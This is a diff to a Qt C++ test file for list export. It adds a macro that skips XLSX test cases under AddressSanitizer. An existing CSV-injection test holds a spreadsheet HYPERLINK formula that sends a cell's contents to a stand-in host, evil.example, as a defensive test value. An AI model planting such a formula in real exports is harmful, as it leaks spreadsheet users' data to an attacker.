@@ -32,6 +32,17 @@ using Encoding = TextEncoding::Encoding;
 Q_DECLARE_METATYPE(SheetWriter::Format)
 Q_DECLARE_METATYPE(TextEncoding::Encoding)
 
+// Under AddressSanitizer libxlsxwriter is loaded without RTLD_DEEPBIND (the sanitizer
+// refuses it; sheetwriter.cpp) and its minizip calls land in QuaZip's, which this test
+// links to read the workbooks back: the .xlsx cases cannot run there.
+#if defined(__SANITIZE_ADDRESS__)
+#define SKIP_XLSX_UNDER_ASAN(format)                                                                                    \
+    if ((format) == SheetWriter::Format::Xlsx)                                                                          \
+    QSKIP("libxlsxwriter next to QuaZip needs RTLD_DEEPBIND, which AddressSanitizer refuses")
+#else
+#define SKIP_XLSX_UNDER_ASAN(format)
+#endif
+
 namespace {
 const QString Me = u"0192b6c8-0000-7000-8000-000000000001"_s;
 
@@ -220,6 +231,7 @@ void tst_ListExport::customersAsShown_data()
 void tst_ListExport::customersAsShown()
 {
     QFETCH(Format, format);
+    SKIP_XLSX_UNDER_ASAN(format);
     QFETCH(Encoding, encoding);
     CustomerListModel model(m_replica->database());
     CustomerListModel::Filter filter;
@@ -292,6 +304,7 @@ void tst_ListExport::documents()
 {
     QFETCH(DocumentList::Kind, kind);
     QFETCH(Format, format);
+    SKIP_XLSX_UNDER_ASAN(format);
     QFETCH(Encoding, encoding);
     const bool quotes = kind == DocumentList::Kind::Quotes;
     DocumentList list(kind, m_replica->database());
@@ -349,6 +362,7 @@ void tst_ListExport::formulasStayText()
 {
     // OWASP "CSV injection": a name that a spreadsheet would run.
     QFETCH(Format, format);
+    SKIP_XLSX_UNDER_ASAN(format);
     const QString file = path(format == Format::Xlsx ? u"formula.xlsx"_s : u"formula.csv"_s);
     const QString evil = u"=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")"_s;
     {
@@ -453,6 +467,7 @@ void tst_ListExport::unwritablePathIsAnError()
 
 void tst_ListExport::runsInTheBackground()
 {
+    SKIP_XLSX_UNDER_ASAN(Format::Xlsx);
     CustomerListModel model(*m_big);
     ListExport exporter(model, {CustomerListModel::Name, CustomerListModel::LastActivity});
     QSignalSpy progressed(&exporter, &ListExport::progressed);
@@ -479,6 +494,7 @@ void tst_ListExport::runsInTheBackground()
 
 void tst_ListExport::csvQuotingAndLongCells()
 {
+    SKIP_XLSX_UNDER_ASAN(Format::Xlsx);
     const QString csv = path(u"quoting.csv"_s);
     const QString xlsx = path(u"long.xlsx"_s);
     const QString longText = QString(40000, u'长');
